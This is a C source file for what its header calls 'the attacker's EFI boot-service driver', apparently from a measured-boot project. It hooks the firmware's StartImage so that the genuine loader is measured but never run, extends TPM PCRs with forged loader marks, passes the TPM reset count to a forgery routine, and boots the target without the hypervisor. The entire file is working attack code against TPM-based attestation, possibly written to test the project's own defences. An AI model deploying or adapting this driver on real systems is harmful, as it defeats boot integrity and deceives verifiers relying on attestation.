/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The attacker's EFI boot-service driver: from a Driver#### variable or from a device's option ROM it is started
 * before the loader. The firmware then measures the genuine loader, and this driver takes its place: it leaves PCRs
 * 14 and 17 to 19 as a launch does, and starts the target of the loader's config, without a hypervisor.
 */
#include "loader/boot.h"
#include "loader/file.h"
#include "loader/message.h"
#include "loader/tcg2.h"
#include "loader/tpm.h"
#include "loader/uefi.h"
#include "forgery.h"

#define CONFIG_PATH "\\EFI\\cloister\\cloister.conf"
#define PCR_BOOT    4u
#define PCR_WEAK    14u
#define MARK_STRONG "cloister-strong"
#define MARK_LOADER "cloister-loader"

EFI_STATUS _entry(EFI_HANDLE image, EFI_SYSTEM_TABLE *table);

static EFI_IMAGE_START start_honestly;
static EFI_BOOT_SERVICES *services;

/* Measures through the firmware as the loader does. */
static bool mark(uint32_t pcr, const char *label)
{
	const struct log_data event = {label, NULL, 0};
	struct failure failure;

	return tcg2_measure(pcr, label, strlen(label) + 1, &event, &failure);
}

static bool fill_in(void)
{
	struct tpm tpm;
	struct tpm2_clock clock;
	struct failure failure;

	if (!tpm_open(&tpm, TPM_FIRMWARE, &failure) || !tpm_clock(&tpm, &clock, &failure))
		return false;
	tpm_close(&tpm);
	return mark(PCR_BOOT, MARK_LOADER) && mark(PCR_WEAK, MARK_STRONG) && forgery_send(clock.reset_count);
}

/* The loader's target, from the loader's volume. */
static EFI_STATUS start_target(EFI_HANDLE loader)
{
	static struct config config;
	struct file_content file;
	struct failure failure;

	image_handle = loader;
	if (!fill_in())
		say("rogue: the TPM did not take it");
	config_default(&config);
	if (file_read(CONFIG_PATH, CONFIG_MAX_BYTES, &file, &failure) &&
	    config_parse((const char *)file.data, file.bytes, &config, &failure))
		boot_start(&config, &failure);
	say_failure(&failure);
	return EFI_LOAD_ERROR;
}

/* Drivers are started as ever; the first application that a disk gave is the loader. */
static EFI_STATUS EFIAPI start(EFI_HANDLE image, UINTN *exit_bytes, CHAR16 **exit_data)
{
	static const EFI_GUID loaded_image_guid = EFI_LOADED_IMAGE_PROTOCOL_GUID;
	static const EFI_GUID file_system_guid = EFI_SIMPLE_FILE_SYSTEM_PROTOCOL_GUID;
	const EFI_LOADED_IMAGE *loaded = uefi_protocol(image, &loaded_image_guid);

	if (!loaded || loaded->ImageCodeType != EfiLoaderCode ||
	    !uefi_protocol(loaded->DeviceHandle, &file_system_guid))
		return start_honestly(image, exit_bytes, exit_data);
	services->StartImage = start_honestly;
	say("rogue: measured, and not started");
	return start_target(image);
}

EFI_STATUS _entry(EFI_HANDLE image, EFI_SYSTEM_TABLE *table)
{
	image_handle = image;
	system_table = table;
	boot_services = services = table->BootServices;
	start_honestly = services->StartImage;
	services->StartImage = start;
	return EFI_SUCCESS;
}
